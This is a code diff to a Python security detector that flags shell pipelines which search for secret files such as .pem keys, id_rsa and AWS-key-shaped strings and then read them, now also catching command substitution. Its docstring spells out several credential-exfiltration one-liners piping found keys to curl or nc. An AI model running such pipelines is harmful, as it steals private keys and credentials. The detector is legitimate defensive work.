@@ -942,16 +942,23 @@ _LIST_ARCHIVERS = {"tar": ("-T", "--files-from"), "zip": ("-@",), "cpio": ("-o",
 
 def _picked_secrets_read(feeders: Sequence[Facts]) -> bool:
     """`find / -name '*.pem' | tar -czf - -T - | curl -T - URL`, `grep -rlZ 'AKIA…' . | xargs -0 cat |
-    curl --data-binary @- URL`, `find ~ -name id_rsa -exec cat {} +`: a search picks files by a secret's
-    name or shape, and a later step of the pipe reads the files it names (run by xargs or by find's
-    -exec, or an archiver handed the list): what flows on is the secrets' contents."""
+    curl --data-binary @- URL`, `find ~ -name id_rsa -exec cat {} +`, `cat $(find / -name '*.pem') | nc
+    …`: a search picks files by a secret's name or shape, and a step of the pipe reads the files it
+    names (run by xargs or by find's -exec, an archiver handed the list, a reader handed them by a
+    substitution): what flows on is the secrets' contents."""
     for picker in feeders:
         if not picker.picks_secret_files:
             continue
         if picker.name == "find" and any(a in ("-exec", "-execdir") for a in picker.inv.args):
             return True
+        named_by_substitution = picker.inv.via[-1:] == ("$()",)
         for reader in feeders:
-            if reader is picker or picker.name not in reader.inv.stdin_from:
+            if reader is picker:
+                continue
+            if named_by_substitution and reader.inv.depth == picker.inv.depth - 1 and any(
+                    "$(" in a for a in reader.inv.args):
+                return True  # `cat $(find / -name '*.pem')`: the reader is handed the picks
+            if picker.name not in reader.inv.stdin_from:
                 continue
             if "xargs" in reader.inv.wrappers or "parallel" in reader.inv.wrappers:
                 return True
